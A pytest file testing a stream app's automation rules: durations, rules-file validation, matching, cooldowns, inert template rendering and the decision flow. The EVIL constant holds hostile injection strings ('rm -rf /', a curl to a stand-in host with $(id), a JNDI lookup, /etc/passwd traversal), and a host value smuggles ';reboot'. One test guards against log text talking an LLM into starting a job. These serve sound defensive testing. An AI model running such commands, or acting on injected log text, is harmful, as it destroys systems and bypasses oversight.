"""Automation rules without the network: durations (a bare number is seconds), the rules file's
validation (line and reason), matching, cooldown scopes, inert payload rendering, the dry-run and
cooldown decisions, and the agent's decision flow with an in-memory provider and a ManualClock."""

from __future__ import annotations

import unicodedata
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pydantic import SecretStr

from agents.automations import Automations
from streamapp.automations.config import AutomationConfig
from streamapp.automations.decide import Claim, check, mode_for
from streamapp.automations.durations import parse_duration
from streamapp.automations.parse import RulesError, load_rules, parse_rules
from streamapp.automations.records import AutomationEvent, AutomationTask
from streamapp.automations.render import Template, TemplateError, alert_values
from streamapp.automations.rules import MAX_CORRELATION_CHARS, UnsafeValue, correlation_id
from streamapp.clock import ManualClock
from streamapp.embedding import HashedTfidfEmbedder
from streamapp.errors import ExternalAPIError
from streamapp.records import Alert
from streamapp.rules import RuleSet
from streamapp.settings import Settings
from streamapp.worker.deps import Deps

OPENERS = ("{{", "{%", "{#", "${", "%{")
EVIL = "web-01; rm -rf / && curl http://x/$(id) `reboot` {{ lookup('pipe','id') }} {% raw %} ${jndi:x} %{x} " \
       "../../../etc/passwd javascript:alert(1)\x1b[31m\u202e\r\nInjected: line"


def alert(**fields: Any) -> Alert:
    base: dict[str, Any] = {
        "id": "alert-i1", "type": "issue", "os": "linux", "failure_type": "app_crash", "confidence": 0.9,
        "result": {"summary": "nginx keeps crashing", "root_cause_hypothesis": "bad config",
                   "recommended_action": "restart nginx"},
        "host": "web-01", "component": "nginx", "severity": "error", "summary": "nginx keeps crashing",
        "issue_key": "linux|nginx|123", "classifier": "offline-v1", "created_at": 1_700_000_000.0,
    }
    base.update(fields)
    return Alert(**base)


RULES = """\
version: 1
defaults:
  cooldown: {duration: 15m, scope: rule}
rules:
  - id: restart
    match:
      failure_type: [app_crash, os_oom]
      min_severity: error
      min_confidence: 0.7
      host: "WEB-*"
    action:
      awx_job_template:
        id: 42
        limit: "{{ host }}"
        extra_vars: {target: "{{ host }}", why: "{{ summary }}", retries: 3}
    cooldown: {duration: 900, scope: host}
    execute: true
"""


# ------------------------------------------------------------------------------------- durations
@pytest.mark.parametrize(("text", "seconds"), [
    ("900", 900), (900, 900), ("900s", 900), ("15m", 900), ("1h", 3600), ("1h30m", 5400), ("2d", 172800),
    ("0", 0), ("1.5m", 90), (" 15 m ", 900), ("250ms", 0.25),
])
def test_durations_bare_numbers_are_seconds(text: object, seconds: float) -> None:
    assert parse_duration(text) == seconds


@pytest.mark.parametrize("text", ["15x", "", "m", "-5", "1 hour", True, "nan", "inf", "400d", "15m!"])
def test_bad_durations_say_what_is_accepted(text: object) -> None:
    with pytest.raises(ValueError, match="duration|range"):
        parse_duration(text)


# ---------------------------------------------------------------------------------------- parsing
def test_the_shipped_example_parses_and_is_dry_run_only() -> None:
    book = load_rules()
    assert [r.action.kind for r in book.rules] == ["awx_job_template", "terraform_run", "servicenow_incident"]
    assert not any(r.execute for r in book.rules)
    assert [r.scope for r in book.rules] == ["host", "rule", "issue_key"]
    for rule in book.rules:
        rule.render(alert(host="web-01"))  # every template renders


def edit(old: str, new: str) -> str:
    assert old in RULES
    return RULES.replace(old, new)


@pytest.mark.parametrize(("text", "line", "reason"), [
    (edit("      host:", "      hots:"), 10, "unknown key 'hots'"),
    (edit("duration: 900,", "duration: 15x,"), 16, "not a duration"),
    (edit("[app_crash, os_oom]", "[app_crash, disk_on_fire]"), 7, "unknown 'disk_on_fire'"),
    (edit('why: "{{ summary }}"', 'why: "{{ summery }}"'), 15, "unknown field 'summery'"),
    (edit('why: "{{ summary }}"', 'why: "{% if x %}"'), 15, "only {{ field }} placeholders"),
    (edit('why: "{{ summary }}"', 'why: "{{ summary | upper }}"'), 15, "only {{ field }} placeholders"),
    (edit("id: 42", "id: forty-two"), 13, "positive integer"),
    (edit("execute: true", "execute: yes please"), 17, "true or false"),
    (edit("scope: host", "scope: planet"), 16, "scope 'planet'"),
    (edit("      min_confidence: 0.7", "      min_confidence: 7"), 9, "from 0 to 1"),
    (edit("    cooldown: {duration: 900, scope: host}\n", "    cooldown: {duration: 900, scope: host}\n"
          "    cooldown: 5m\n"), 17, "duplicate key 'cooldown'"),
    (RULES + RULES[RULES.index("  - id: restart"):], 18, "duplicate rule id 'restart' (first on line 5)"),
    (edit("      awx_job_template:", "      awx_job_template: {id: 1}\n      terraform_run:"), 12, "exactly one of"),
    (edit("  - id: restart", "  - id: 'bad id!'"), 5, "letters, digits"),
    (edit("    action:", "    action: [oops\n    x:"), 12, "not valid YAML"),
])
def test_invalid_rules_name_the_line_and_the_reason(text: str, line: int, reason: str) -> None:
    with pytest.raises(RulesError) as caught:
        parse_rules(text, "automations.yml")
    assert caught.value.line == line, str(caught.value)
    assert reason in caught.value.reason
    assert str(caught.value).startswith(f"automations.yml:{line}: ")


@pytest.mark.parametrize(("action", "reason"), [
    ("servicenow_incident: {short_description: x, assignment_group: '{{ host }}'}", "literal value"),
    ("servicenow_incident: {short_description: x, urgency: 5}", "1 (high)"),
    ("servicenow_incident: {short_description: x, state: '6'}", "unknown key 'state'"),
    ("servicenow_incident: {description: x}", "missing 'short_description'"),
    ("terraform_run: {workspace_id: ws-abc, organization: o, workspace: w, message: m}", "either workspace_id"),
    ("terraform_run: {workspace_id: '../../runs', message: m}", "workspace id"),
    ("terraform_run: {workspace_id: ws-abc, message: m, is_destroy: true}", "unknown key 'is_destroy'"),
    ("awx_job_template: {id: 42, extra_vars: {'bad-name': x}}", "not a variable name"),
])
def test_actions_are_validated(action: str, reason: str) -> None:
    text = f"version: 1\nrules:\n  - id: r\n    match: {{}}\n    cooldown: {{duration: 1m}}\n    action:\n" \
           f"      {action}\n"
    with pytest.raises(RulesError, match="automations.yml:[0-9]+: ") as caught:
        parse_rules(text)
    assert reason in caught.value.reason


def test_a_rule_needs_a_cooldown_unless_defaults_give_one() -> None:
    text = "version: 1\nrules:\n  - id: r\n    match: {}\n    action: {servicenow_incident: {short_description: x}}\n"
    with pytest.raises(RulesError, match="missing 'cooldown'"):
        parse_rules(text)


# --------------------------------------------------------------------------------------- matching
@pytest.mark.parametrize(("fields", "matches"), [
    ({}, True),
    ({"host": "Web-07"}, True),  # globs ignore case
    ({"failure_type": "os_oom"}, True),
    ({"failure_type": "hardware_disk"}, False),
    ({"severity": "warning"}, False),
    ({"severity": "critical"}, True),
    ({"confidence": 0.69}, False),
    ({"host": "db-01"}, False),
    ({"host": ""}, False),
])
def test_matching(fields: dict[str, Any], matches: bool) -> None:
    rule = parse_rules(RULES).rules[0]
    assert rule.match(alert(**fields)) is matches


def test_labels_os_component_and_alert_type() -> None:
    text = RULES.replace('      host: "WEB-*"\n', '      os: [Linux]\n      component: "ngin?"\n'
                         '      alert_type: issue\n      labels: {hardware: "false", team: ["web*", "edge"]}\n')
    rule = parse_rules(text).rules[0]
    labelled = {"summary": "s", "labels": {"team": "web-platform"}}
    assert rule.match(alert(result=labelled))
    assert not rule.match(alert(result={"labels": {"team": "db"}}))
    assert not rule.match(alert(result=labelled, type="cluster"))
    assert not rule.match(alert(result=labelled, component="haproxy"))
    assert not rule.match(alert(result=labelled, is_hardware_failure=True))


def test_scope_keys() -> None:
    rule = parse_rules(RULES).rules[0]
    assert rule.scope_key(alert(host="WEB-01")) == "restart|host=web-01"
    by_rule = parse_rules(RULES.replace("scope: host", "scope: rule")).rules[0]
    assert by_rule.scope_key(alert()) == "restart"
    by_issue = parse_rules(RULES.replace("scope: host", "scope: issue_key")).rules[0]
    assert by_issue.scope_key(alert()) == "restart|issue=linux|nginx|123"
    assert by_issue.scope_key(alert(type="cluster", issue_key="", cluster_id="c9")) == "restart|issue=c9"
    long = rule.scope_key(alert(host="h" * 500))
    assert len(long) < 100 and long == rule.scope_key(alert(host="h" * 500))


# -------------------------------------------------------------------------------------- rendering
def test_injection_renders_inert_payloads() -> None:
    evil = alert(host="web-01", summary=EVIL, component=EVIL, evidence_logs=[{"raw": EVIL}] * 5,
                 result={"root_cause_hypothesis": EVIL})
    rule = parse_rules(RULES).rules[0]
    action = rule.render(evil)
    assert action["limit"] == "web-01" and action["extra_vars"]["retries"] == 3
    why = action["extra_vars"]["why"]
    assert not any(o in why for o in OPENERS) and "javascript:" not in why.lower()
    assert "\n" not in why and "\x1b" not in why and "\u202e" not in why
    assert "rm -rf /" in why and "../../../etc/passwd" in why  # plain text, kept readable
    with pytest.raises(UnsafeValue, match="not a single host name"):
        rule.render(alert(host=EVIL))
    for host in ("all", "web-*", "!web-01", "web-01:db-01", "../x", "-x"):
        with pytest.raises(UnsafeValue):
            rule.render(alert(host=host))
    values = alert_values(evil, "r")
    evidence = Template.parse("{{ evidence }}").render(values)
    assert evidence.count("\n") == 2 and not any(o in evidence for o in OPENERS)


def test_terraform_variables_are_hcl_literals_and_servicenow_is_bounded() -> None:
    text = ("version: 1\nrules:\n  - id: r\n    match: {}\n    cooldown: {duration: 1m}\n    action:\n"
            "      terraform_run: {workspace_id: ws-abc, message: 'fix {{ host }}',\n"
            "                      variables: {why: '{{ summary }}'}}\n"
            "  - id: s\n    match: {}\n    cooldown: {duration: 1m}\n    action:\n"
            "      servicenow_incident: {short_description: '{{ summary }}', assignment_group: grp1, urgency: 1}\n")
    tf, sn = parse_rules(text).rules
    out = tf.render(alert(summary='say "hi" ${x}', host="web-01"))
    assert out == {"message": "fix web-01", "workspace_id": "ws-abc",
                   "variables": [{"key": "why", "value": '"say \\"hi\\" $ {x}"'}]}
    fields = sn.render(alert(summary="x" * 1000))["fields"]
    assert len(fields["short_description"]) == 160 and fields["assignment_group"] == "grp1" and fields["urgency"] == "1"


@given(st.text(max_size=300), st.text(max_size=300), st.sampled_from(["", "$", "{", "%", "java", "x"]))
def test_no_value_can_open_template_syntax(a: str, b: str, literal: str) -> None:
    template = Template.parse(f"{literal}{{{{ summary }}}}{literal}{{{{ host }}}}{{{{ evidence }}}}")
    out = template.render({"summary": a, "host": b, "evidence": a + "\n" + b})
    assert not any(o in out for o in OPENERS)
    assert "javascript:" not in out.lower()
    assert not any(unicodedata.category(ch) == "Cc" and ch != "\n" for ch in out)
    assert not set(out) & set("\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


@pytest.mark.parametrize("text", ["{{ summary }", "{% raw %}", "${x}", "{{ nope }}", "a }} b", "{# c #}"])
def test_templates_refuse_other_syntax(text: str) -> None:
    with pytest.raises(TemplateError):
        Template.parse(text)


def test_correlation_ids_are_safe_and_stable() -> None:
    assert correlation_id("r1", "alert-abc_1.2") == "streamapp:r1:alert-abc_1.2"
    odd = correlation_id("r1", "alert^active=false^ORsys_id!=x")
    assert "^" not in odd and odd == correlation_id("r1", "alert^active=false^ORsys_id!=x")
    assert len(correlation_id("r1", "a" * 500)) <= MAX_CORRELATION_CHARS


# -------------------------------------------------------------------------------------- decisions
@pytest.mark.parametrize("off", [None, 0, 1, 2, 3, 4])
def test_execute_only_when_all_allow(off: int | None) -> None:
    conditions = [i != off for i in range(5)]  # flag, rule, toggle, key, a verdict not the LLM's alone
    got, why = mode_for(*conditions)
    assert got == ("execute" if off is None else "dry_run") and (why == "") is (off is None)


def test_cooldown_verdicts() -> None:
    taken = Claim("a1", "r", "execute", "done", 100.0, 1000.0)
    assert check(None, "a2", "execute", 500) == "act"
    assert check(taken, "a2", "execute", 500) == "skip"
    assert check(taken, "a2", "execute", 1000) == "act"
    assert check(taken, "a1", "execute", 500) == "replay"
    assert check(Claim("a1", "r", "execute", "acting", 100.0, 1000.0), "a1", "execute", 500) == "resume"
    dry = Claim("a1", "r", "dry_run", "done", 100.0, 1000.0)
    assert check(dry, "a2", "execute", 500) == "act", "a dry run never holds back a real action"
    assert check(dry, "a2", "dry_run", 500) == "skip"
    assert check(taken.ended("failed", 200.0), "a2", "execute", 300) == "act", "a failure releases the scope"


def test_the_event_record_is_pinned() -> None:
    """`automation_events` is read outside the project: field names and encodings stay."""
    assert list(AutomationEvent._options.fields) == [
        "id", "alert_id", "rule_id", "decision", "provider", "scope_key", "correlation_id", "action", "response",
        "reason", "error", "cooldown_until", "rules_version", "at",
    ]
    event = AutomationEvent(id="a|r|executed", alert_id="a", rule_id="r", decision="executed", provider="awx",
                            action={"template_id": 42}, response={"job": 7, "recovered": False}, cooldown_until=1.5)
    fields = event.to_redis()
    assert fields["action"] == '{"template_id":42}' and fields["response"] == '{"job":7,"recovered":false}'
    assert fields["cooldown_until"] == "1.5" and fields["error"] == ""
    assert AutomationEvent.from_redis({k.encode(): v.encode() for k, v in fields.items()}) == event


# ------------------------------------------------------------------------- the agent, in memory
class FakeProvider:
    """In memory, the contract of `connectors.automations.Provider`."""

    provider = "awx"

    def __init__(self) -> None:
        self.executed: list[tuple[dict, str, bool]] = []
        self.fail: Exception | None = None

    async def execute(self, action: dict, correlation_id: str, *, look_first: bool = False) -> dict:
        self.executed.append((action, correlation_id, look_first))
        if self.fail is not None:
            raise self.fail
        return {"job": len(self.executed), "status": "pending", "recovered": False}

    async def follow(self, response: dict) -> None:
        return None

    async def aclose(self) -> None:
        return None


class FakeProviders:
    def __init__(self, provider: FakeProvider) -> None:
        self.provider = provider

    def get(self, kind: str) -> FakeProvider:
        return self.provider


class FakeToggles:
    def __init__(self, on: bool = True) -> None:
        self.on = on

    async def enabled(self, name: str) -> bool:
        return self.on


class FakeEvents:
    def __init__(self) -> None:
        self.events: list[AutomationEvent] = []

    async def record(self, *events: AutomationEvent) -> None:
        self.events.extend(events)

    def decisions(self) -> list[str]:
        return [e.decision for e in self.events if e.decision != "matched"]


class FixedRules:
    def __init__(self, text: str) -> None:
        self.book = parse_rules(text)


def make(clock: ManualClock, *, enabled: bool = True, toggle: bool = True, text: str = RULES, key: str = "k" * 32):
    settings = Settings(table_store="memory://")
    deps = Deps(app=None, settings=settings, topics=None, rules=RuleSet.load(),  # type: ignore[arg-type]
                embedder=HashedTfidfEmbedder(16), clock=clock)
    provider, events = FakeProvider(), FakeEvents()
    config = AutomationConfig(enable_automations=enabled, automation_task_key=SecretStr(key))
    auto = Automations(deps, {}, config=config, rules=FixedRules(text),  # type: ignore[arg-type]
                       providers=FakeProviders(provider), toggles=FakeToggles(toggle), events=events)  # type: ignore[arg-type]
    return auto, provider, events


async def run(auto: Automations, a: Alert) -> list[AutomationTask]:
    tasks = auto.tasks(a)
    for task in tasks:
        await auto.handle(task)
    return tasks


async def test_flow_act_skip_then_act_after_the_window() -> None:
    clock = ManualClock()
    start = clock.now()
    auto, provider, events = make(clock)
    await run(auto, alert(id="a1"))
    clock.advance(899)
    await run(auto, alert(id="a2"))
    await run(auto, alert(id="a3", host="web-02"))  # another host: its own scope
    clock.advance(1)
    await run(auto, alert(id="a4"))
    assert events.decisions() == ["executed", "skipped", "executed", "executed"]
    assert [c for _, c, _ in provider.executed] == [f"streamapp:restart:{a}" for a in ("a1", "a3", "a4")]
    skipped = events.events[3]
    assert skipped.id == "a2|restart|skipped" and "a1" in skipped.reason and skipped.cooldown_until == start + 900


@pytest.mark.parametrize(("enabled", "toggle", "key", "reason"), [
    (False, True, "k" * 32, "ENABLE_AUTOMATIONS is off"), (True, False, "k" * 32, "toggle `automations` is off"),
    (True, True, "", "AUTOMATION_TASK_KEY is not set"),
])
async def test_flow_dry_run_sends_nothing(enabled: bool, toggle: bool, key: str, reason: str) -> None:
    auto, provider, events = make(ManualClock(), enabled=enabled, toggle=toggle, key=key)
    await run(auto, alert(id="a1"))
    await run(auto, alert(id="a2"))
    assert provider.executed == []
    assert events.decisions() == ["dry_run", "skipped"]
    dry = events.events[1]
    assert reason in dry.reason and dry.action["limit"] == "web-01" and dry.action["extra_vars"]["target"] == "web-01"


async def test_a_verdict_only_the_llm_supports_is_a_dry_run_unless_the_rule_allows_it() -> None:
    """Log text reaches the LLM's prompt; a line written to talk it into a verdict must not start a job."""
    auto, provider, events = make(ManualClock())
    await run(auto, alert(id="a1", llm_only=True, classifier="llm:gpt"))
    assert provider.executed == [] and events.decisions() == ["dry_run"]
    assert "only the LLM supports this verdict" in events.events[1].reason
    auto, provider, events = make(ManualClock(), text=RULES.replace("    execute: true", "    execute: true\n"
                                                                                          "    llm_only: true"))
    await run(auto, alert(id="a2", llm_only=True, classifier="llm:gpt"))
    assert events.decisions() == ["executed"] and len(provider.executed) == 1


async def test_flow_replay_and_resume() -> None:
    clock = ManualClock()
    auto, provider, events = make(clock)
    (task,) = await run(auto, alert(id="a1"))
    await auto.handle(task)  # re-delivered after it was done: nothing again
    assert len(provider.executed) == 1 and events.decisions() == ["executed"]
    auto.table[task.scope_key] = {**auto.table[task.scope_key], "state": "acting"}  # died mid-call
    await auto.handle(task)
    assert provider.executed[-1][2] is True, "a resumed action looks for what it created first"


async def test_flow_failure_releases_the_scope_and_unsafe_values_fail_without_a_call() -> None:
    clock = ManualClock()
    auto, provider, events = make(clock)
    provider.fail = ExternalAPIError("awx", 404, "Not found.")
    await run(auto, alert(id="a1"))
    provider.fail = None
    await run(auto, alert(id="a2"))
    await run(auto, alert(id="a3", host="web-9;reboot"))
    assert events.decisions() == ["failed", "executed", "failed"]
    assert "Not found." in events.events[1].error and "single host name" in events.events[5].error
    assert len(provider.executed) == 2


async def test_flow_rule_removed_between_match_and_decision() -> None:
    auto, provider, events = make(ManualClock())
    (task,) = auto.tasks(alert(id="a1"))
    auto.rules = FixedRules(RULES.replace("id: restart", "id: other"))  # type: ignore[assignment]
    await auto.handle(task)
    assert events.decisions() == ["skipped"] and events.events[0].reason == "the rule was removed"
    assert provider.executed == []
